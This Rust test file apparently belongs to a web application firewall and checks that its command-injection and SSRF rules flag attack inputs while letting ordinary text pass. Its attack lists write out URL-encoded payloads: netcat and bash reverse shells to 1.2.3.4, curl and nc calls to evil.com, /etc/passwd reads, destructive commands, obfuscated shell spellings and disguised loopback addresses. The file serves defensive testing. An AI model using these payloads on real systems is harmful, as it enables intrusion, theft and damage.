//! Command injection: separators, wrappers, `sleep` and `nc` probes, and the User-Agent.

use super::*;

/// A line break ends a shell command as `;` does (the ping-form injection), `sleep` probes
/// and `nc HOST PORT` are command injection; Markdown code fences and prose over several
/// lines are not.
#[test]
fn line_breaks_sleep_and_netcat_are_command_separators() {
    for attack in [
        "/ping?host=127.0.0.1%0aid",
        "/ping?host=127.0.0.1%0d%0aid",
        "/a?c=x%0anc%20-e%20/bin/sh%201.2.3.4%2080",
        "/a?c=x%0a%09bash%20-i",
        "/a?c=x%3Bsleep%205",
        "/a?c=x%7Csleep%205",
        "/a?c=x%20%26%26%20sleep%205",
        "/a?c=x%3Bsleep%24%7BIFS%7D5",
        "/a?c=x%20%7C%20nc%20evil%2080",
        "/a?c=x%0Aenv%20id",
        "/a?c=x%0Atimeout%205%20id",
        "/a?c=x%0Abusybox%20sh",
        "/a?c=x%0Abusybox%20nc%201.2.3.4%2080%20-e%20sh",
        "/a?c=x%0Anc.openbsd%201.2.3.4%2080",
        "/a?c=x%0Adig%20evil.com",
        "/a?c=x%0Ahost%20evil.com",
        "/a?c=x%0Aping6%20-c%205%20::1",
        "/a?c=x%0Aps%20aux",
        "/a?c=x%0Aprintenv",
        "/a?c=x%0Axargs%20id",
        "/a?c=x%0Asu%20root",
        // Black-box pass 7: wrappers with options, and more commands.
        "/a?c=x%3Bnice%20-n%205%20sh",
        "/a?c=x%3Beval%20id",
        "/a?c=x%3Bsetsid%20id",
        "/a?c=x%3Bchroot%20/%20id",
        "/a?c=x%3Bdoas%20id",
        "/a?c=x%3Bstrace%20id",
        "/a?c=x%3Bionice%20-c%203%20id",
        "/a?c=x%3Btaskset%201%20id",
        "/a?c=x%3Bflock%20/tmp%20id",
        "/a?c=x%3Bscript%20-c%20id",
        "/a?c=x%3Btoybox%20id",
        "/a?c=x%0Adrill%20evil.com",
        "/a?c=x%0Agetent%20hosts%20evil.com",
        "/a?c=x%3Bping6%20evil.com",
        // Black-box pass 8: options after a wrapper, and more wrappers.
        "/a?c=x%3Bnice%20-n5%20sh",
        "/a?c=x%3Bnice%20--adjustment=5%20id",
        "/a?c=x%3Btaskset%20-c%200%20id",
        "/a?c=x%3Bsetsid%20-f%20id",
        "/a?c=x%3Bcpulimit%20-l%205%20id",
        "/a?c=x%3Bunshare%20id",
        "/a?c=x%3Bnsenter%20-t%201%20id",
        "/a?c=x%3Bpkexec%20id",
        "/a?c=x%3Bvalgrind%20id",
        "/a?c=x%3Brlwrap%20id",
        "/a?c=x%3Bbuiltin%20exec%20id",
        // Black-box pass 9: a wrapper's variables and users, and more commands.
        "/a?c=x%3Benv%20A=b%20id",
        "/a?c=x%3Benv%20-i%20PATH=/bin%20id",
        "/a?c=x%3Bdoas%20-u%20root%20id",
        "/a?c=x%3Bsudo%20-u%20root%20id",
        "/a?c=x%3Bpkexec%20--user%20root%20id",
        "/a?c=x%3Bgdb%20-ex%20%27!id%27",
        "/a?c=x%3Bsshpass%20-p%20pw%20ssh%20h",
        "/a?c=x%3Bexpect%20-c%20%27spawn%20x%27",
        "/a?c=x%3Bfish%20-c%20id",
        "/a?c=x%3Bfping%20evil.com",
        "/a?c=x%3Bhping3%20evil.com",
        "/a?c=x%3Bopenssl%20s_client%20-quiet%20evil.com:443",
        // Black-box pass 10: assignments before a command, wrappers' long options, more wrappers.
        "/a?c=x%3BA=b%20id",
        "/a?c=x%3BPATH=%2Ftmp%20id",
        "/a?c=x%3BIFS=%2C%20id",
        "/a?c=x%3BA=b%20B=c%20sh%20-c%20id",
        "/a?c=x%3BA=b%20curl%20evil.com",
        "/a?c=x%3BA=b%20nc%20evil.com%201",
        "/a?c=x%3Benv%20--%20whoami",
        "/a?c=x%3Benv%20--ignore-environment%20id",
        "/a?c=x%3Benv%20--chdir=%2F%20id",
        "/a?c=x%3Benv%20--unset=X%20whoami",
        "/a?c=x%3Benv%20A=%27b%20c%27%20id",
        "/a?c=x%3Benv%20A=%22b%20c%22%20id",
        "/a?c=x%3Bdoas%20-C%20%2Fetc%2Fdoas.conf%20id",
        "/a?c=x%3Bdoas%20-s",
        "/a?c=x%3Bexpect%20-f%20x.exp",
        "/a?c=x%3Bexpect%20x.exp",
        "/a?c=x%3Bexpect%20-d%20-c%20%27spawn%20x%27",
        "/a?c=x%3Bexpect%20-nc%20%27spawn%20id%27",
        "/a?c=x%3Bexpect%20-i",
        "/a?c=x%3Bfish%20--command=id",
        "/a?c=x%3Bfish%20-c%22id%22",
        "/a?c=x%3Bfish%20-N%20-c%20id",
        "/a?c=x%3Bfish%20-ic%20id",
        "/a?c=x%3Bfish%20--no-config%20-c%20id",
        "/a?c=x%3Bfish%20id.fish",
        "/a?c=x%3Bfping6%20evil.com",
        "/a?c=x%3Bhping%20evil.com",
        "/a?c=x%3Bhping2%20evil.com",
        "/a?c=x%3Bopenssl%20enc%20-d%20-in%20x",
        "/a?c=x%3Bopenssl%20req%20-x509",
        "/a?c=x%3Bnsenter%20--target=1%20--mount%20id",
        "/a?c=x%3Btimeout%20--signal=9%205%20id",
        "/a?c=x%3Bstdbuf%20--output=0%20id",
        "/a?c=x%3Btaskset%20--cpu-list%200%20id",
        "/a?c=x%3Bionice%20--class%203%20id",
        "/a?c=x%3Bchroot%20--userspec=0%3A0%20%2F%20id",
        "/a?c=x%3Bunshare%20--user%20--map-root-user%20id",
        "/a?c=x%3Bsetsid%20--fork%20id",
        "/a?c=x%3Bscript%20-qc%20id%20%2Fdev%2Fnull",
        "/a?c=x%3Bscript%20--command%20id",
        "/a?c=x%3Bsg%20wheel%20-c%20id",
        "/a?c=x%3Bsetpriv%20--reuid%200%20id",
        "/a?c=x%3Bcapsh%20--%20-c%20id",
        "/a?c=x%3Bfirejail%20id",
        "/a?c=x%3Bproot%20id",
        "/a?c=x%3Bsystemd-run%20id",
        "/a?c=x%3Bchrt%201%20id",
        "/a?c=x%3Bnumactl%20-C%200%20id",
        "/a?c=x%3Bfaketime%20%27x%27%20id",
        "/a?c=x%3Btorsocks%20curl%20evil.com",
        "/a?c=x%3Bproxychains%20curl%20evil.com",
        "/a?c=x%3Bcatchsegv%20id",
        "/a?c=x%3Bdbus-launch%20id",
        "/a?c=x%3Bcommand%20-p%20id",
    ] {
        let r = get(attack);
        assert!(
            r.exceeded && r.findings.iter().any(|f| f.category == "rce"),
            "{attack}: {r:?}"
        );
    }
    for benign in [
        "/a?notes=%23+Release+notes%0A%0A%60%60%60bash%0Acargo+build+--release%0A%60%60%60",
        "/a?text=Dear+team%2C%0Aid+like+to+know+more.%0AThanks",
        "/a?text=Shopping+list%3A%0Acat+food%0Atea",
        "/a?text=Let+it+sleep+for+a+while",
        "/a?text=host%3A+example.com%0Aport%3A+8080",
        "/a?text=Ask+the+host+about+the+time.",
        "/a?text=Shopping+list%3A%0Afish+-+2+kg%0Aexpect+delays",
        "/a?text=Run+it+with+env+vars+set%3A+A%3Db",
        "/a?text=Use+sudo+-u+postgres+psql+to+connect",
        "/a?text=I+had+fish%3B+expect+more+tomorrow",
        "/a?text=a%3D1%3B+b%3D2%3B+total%3D3",
        "/a?text=Note%3A+x%3D5+id+est+the+fifth",
        "/a?text=The+watch%3B+timeout+5+minutes+then+dinner",
        "/a?text=menu%3A+fish%2C+chips%3B+time+for+tea",
    ] {
        let r = get(benign);
        assert!(!r.exceeded, "{benign}: {r:?}");
    }
}

/// At paranoia 2, a client's own name in the User-Agent (curl/8, Wget/1.21, git/2.43) is
/// not a command (black-box pass 7, D1: every curl client was refused), as in CRS's 932239;
/// a command after a separator there still is.
#[test]
fn client_names_in_the_user_agent_are_not_commands() {
    let settings = Settings {
        paranoia: 2,
        detection_paranoia: 2,
        inbound_threshold: 5,
    };
    let ua = |agent: &str| {
        engine().inspect(
            &Input {
                method: "GET",
                uri: "/a",
                headers: &[("User-Agent", agent.as_bytes())],
                body: None,
                secret_fields: &[],
            },
            &settings,
            &[],
            None,
        )
    };
    for agent in [
        "curl/8.5.0",
        "Wget/1.21.4",
        "git/2.43.0",
        "npm/10.2.4 node/v20.11.0 linux x64",
        "pip/24.0",
        "Java/17.0.9",
        "docker/24.0.7 go/go1.21.5",
        "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
        "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        // Bare client names (black-box pass 8): Ruby's Net::HTTP, Node's fetch.
        "Ruby",
        "node",
        "python",
        "perl",
        "php",
        "java",
    ] {
        let r = ua(agent);
        assert!(!r.exceeded, "{agent}: {r:?}");
    }
    for agent in [
        "curl/8.5.0; id",
        "Mozilla/5.0 | cat /etc/passwd",
        "x`whoami`",
    ] {
        let r = ua(agent);
        assert!(r.exceeded, "{agent}: {r:?}");
    }
}

/// Black-box pass 11: values that start with a command name and `&` are names and titles
/// (B11-7) unless a command runs after it; assignments with quotes, `+=` and array
/// elements, and more wrappers (B11-8).
#[test]
fn names_with_ampersands_pass_and_assignments_of_every_form_are_read() {
    for benign in [
        "Head & Shoulders",
        "Cat & Dog",
        "cat & dog friendly hotel",
        "cut & paste",
        "ID & password reset",
        "zip & unzip",
        "tail & head",
        "grep & awk tutorial",
        "ssh & scp cheat sheet",
        "sleep & wake times",
        "less & more",
        "echo & the bunnymen",
        "find & replace",
        // Pass 12 (B12-3): semicolon lists and CSV headers.
        "ID;Name;Email",
        "dog; cat; bird",
        "Dolce & Gabbana; Head & Shoulders",
        "id;name;created_at",
        // Pass 13 (B13-16): GraphQL selections, URL templates, lists ending in a command.
        "query { user { id } }",
        "edges { node { id } }",
        "{ me { id ...UserParts } }",
        "/users/{id}/posts/{postId}",
        "Hello {name}, your id is {id}",
        "Tools: grep; sed; awk",
        "dog; cat",
        "Columns: date; id; amount",
    ] {
        for r in [
            get(&format!(
                "/a?q={}",
                benign.replace(' ', "%20").replace('&', "%26")
            )),
            post(
                "application/json",
                format!("{{\"body\":\"{benign}\"}}").as_bytes(),
            ),
        ] {
            assert_eq!(r.score, 0, "{benign}: {:?}", r.findings);
        }
    }
    for attack in [
        "id & whoami",
        "cat & cat /etc/passwd",
        "x;A=\\\"b c\\\" id",
        "x;A='b c' id",
        "x;A=b\\\\ c id",
        "x;A=$'b c' id",
        "x;A=\\\"b c\\\" nc evil.com 1",
        "x;A+=b nc evil.com 1",
        "x;A[0]=b nc evil.com 1",
        "x;coproc nc evil.com 1",
        "x;source /dev/stdin",
        "x;bwrap --bind / / nc evil.com 1",
        "x;env --split-string=\\\"nc evil.com 1\\\"",
        "x;xvfb-run id",
        "x;chronic id",
        "x;ssh-agent id",
        // Pass 12 (B12-3, B12-10): chained commands stay attacks; more wrappers.
        "id;whoami",
        "x;id;",
        "x;cat;id",
        "x;head & id",
        "x;. /dev/stdin",
        "x;xvfb-run -a id",
        "x;chronic -e id",
        "x;ssh-agent -s id",
        "x;dbus-run-session id",
        "x;parallel ::: id",
        "x;trap id EXIT",
        // Pass 13 (B13-8, B13-16): a brace group; recon whatever follows; a comment;
        // destructive commands with an argument.
        "x;{ id; }",
        "x;whoami;zz",
        "x;uname;Name",
        "a;ifconfig;b",
        "x&whoami&zz",
        "x;id #zz",
        "x;reboot now",
        "x;shutdown now",
        "x;killall nginx",
        "x;useradd evil",
        "x;passwd root",
        "x;history -c",
        // B13-20: find runs what -exec names.
        "x;find . -exec id \\;",
        "x;find / -name x -execdir sh \\;",
    ] {
        let r = post(
            "application/json",
            format!("{{\"q\":\"{attack}\"}}").as_bytes(),
        );
        assert!(r.score >= 5, "{attack}: {:?}", r.findings);
    }
}

/// Commands spelled with the shell's wildcards, from variables, with ANSI-C quoting or
/// empty substitutions; hidden addresses in URLs (black-box pass 10's leftovers). A
/// question mark ending a question, file patterns, comments and query strings are none.
#[test]
fn wildcards_variables_quoting_and_hidden_addresses() {
    for (uri, rule) in [
        ("/a?c=x%3B/???/??t%20/???/p??s??", 932190),
        ("/a?c=x%3B/b??/c?t%20/e??/p?sswd", 932190),
        ("/a?c=x%3B/b*n/c*t%20/e*c/p*sswd", 932190),
        ("/a?c=x%3Bc?t%20/etc/passwd", 932190),
        ("/a?c=x%0A/usr/bin/wh?ami", 932190),
        ("/a?c=x%3B$%7BX%7D$Y%20/etc", 932190),
        ("/a?c=x%3B$X$Y", 932190),
        // Pass 12 (B12-6).
        ("/a?c=x%3Bx=/???/??t%3B$x%20/???/p??s??", 932190),
        // Pass 13 (B13-9): operators, indexes, indirection, positional parameters,
        // other cuts of HOME and PATH, a redirect after, and backtick substitutions.
        ("/a?c=x%3BX=id%3B$X%202%3E%261", 932190),
        ("/a?c=x%3BX=id%3B$%7BX:-%7D", 932190),
        ("/a?c=x%3BX=id%3B$%7BX%25%25%7D", 932190),
        ("/a?c=x%3BX=(id)%3B$%7BX%5B0%5D%7D", 932190),
        ("/a?c=x%3BX=id%3BY=X%3B$%7B!Y%7D", 932190),
        ("/a?c=x%3Bset%20--%20id%3B$1", 932190),
        ("/a?c=x%3B$%7BHOME::1%7Dbin$%7BHOME::1%7Dcat", 932190),
        ("/a?c=x%3B$%7BPATH%25%25u*%7Dbin", 932190),
        ("/a?c=x%3B%60echo%20id%60", 932190),
        ("/a?c=x%3BX=id%3B$X", 932190),
        ("/a?c=x%3B$A$B$C", 932190),
        (
            "/a?c=${HOME:0:1}bin${HOME:0:1}cat%20${HOME:0:1}etc${HOME:0:1}passwd",
            932190,
        ),
        ("/a?c=x%3B$'\\x69\\x64'", 932100),
        ("/a?c=x%3B$'\\151\\144'", 932100),
        ("/a?c=x%3Bwho$()ami", 932100),
        ("/a?c=x%3Bwho%60%60ami", 932100),
        ("/a?u=http://2130706433/", 934110),
        ("/a?u=http://0x7f000001/", 934110),
        ("/a?u=http://0177.0.0.1/", 934110),
        ("/a?u=http://127.1/", 934110),
        // Pass 13 (B13-10): extra slashes, C0 controls first, ideographic full stops.
        ("/a?u=http:///127.1/", 934110),
        ("/a?u=http:////127.1/", 934110),
        ("/a?u=%01http://127.1/", 934110),
        ("/a?u=///127.1/", 934110),
        ("/a?u=http://0x7f.0.0.1:80/", 934110),
        ("/a?u=http://user@2130706433:22/", 934110),
        // Pass 12 (B12-7): the spellings URL parsers also take.
        ("/a?u=http://2130706433./", 934110),
        ("/a?u=http://127.1./", 934110),
        ("/a?u=http:/2130706433/", 934110),
        ("/a?u=//2130706433/", 934110),
        ("/a?u=%20http://2130706433/", 934110),
    ] {
        let r = get(uri);
        assert!(
            r.findings.iter().any(|f| f.rule == rule) && r.score >= 5,
            "{uri}: {:?}",
            r.findings
        );
    }
    for benign in [
        "/a?c=what%20is%20this%3B/docs/what%3F",
        "/a?c=a%3B/images/*.png%3B/css/*.css",
        "/a?c=x%3B/**/return%201",
        "/a?c=see%0A/api/v1/users?limit=10",
        "/a?c=really%3B%20why%3F%20/%20because",
        "/a?c=costs%3B$5$6",
        "/a?c=a%3B$3%20b%3B$4%20c%3B$5",
        "/a?c=Hello%20$%7Bname%7D,%20welcome",
        "/a?c=Run%20%60echo%20hi%60%20to%20test",
        // Pass 14 (B14-2): a JavaScript template, a template after a separator, a default.
        "/a?c=const%20u%20=%20%60$%7Bbase%7D/users/$%7Bid%7D%60%3B",
        "/a?c=Total%3B$%7Bprice%7D",
        "/a?c=port:%20$%7BPORT:-8080%7D",
        "/a?u=https://example.com/2130706433",
        "/a?u=tel:12025550100",
        "/a?p=/12345678/",
        "/a?v=1.2.3",
    ] {
        let r = get(benign);
        assert_eq!(r.score, 0, "{benign}: {:?}", r.findings);
    }
}
